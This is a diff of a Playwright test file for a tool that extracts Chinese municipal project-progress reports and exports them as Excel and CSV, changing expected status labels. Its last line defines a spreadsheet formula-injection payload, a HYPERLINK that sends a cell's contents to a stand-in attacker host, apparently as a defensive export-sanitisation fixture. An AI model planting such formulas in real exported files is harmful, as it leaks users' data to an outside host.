@@ -199,7 +199,7 @@ def test_download_excel_and_csv(page, tmp_path):
     counted = [r for r in estates if r["目标"] == "85个"]
     assert counted and all("万元" not in (r["完成数"] or "") for r in counted)     # investment is not completion
     assert any(r["指标"] == "完成投资" and r["完成数"] == "473.975万元" for r in estates)
-    assert {r["状态"] for r in rows} - {None, ""} <= {"已完成", "有序推进", "进度滞后", "已启动", "已取消"}
+    assert {r["状态"] for r in rows} - {None, ""} <= {"已完成", "有序推进", "进度滞后", "进行中", "已取消"}
 
     with page.expect_download() as info:
         page.click("#dl-csv")
@@ -239,7 +239,7 @@ def test_sample_button_shows_true_statuses(page):
 def test_partial_project_after_done_word_is_not_done(page):
     extract_text(page, "关于2022年1-6月全市重点民生实事项目进展情况的通报\n"
                        "1、由市残联牵头组织实施的“实施无障碍改造640户”项目：全市已完成改造21户，完成年任务3.28%。\n")
-    assert page.locator("#projects tr.project td.status").text_content() not in ("已完成", "")
+    assert page.locator("#projects tr.project td.status").text_content() == "进行中"
 
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
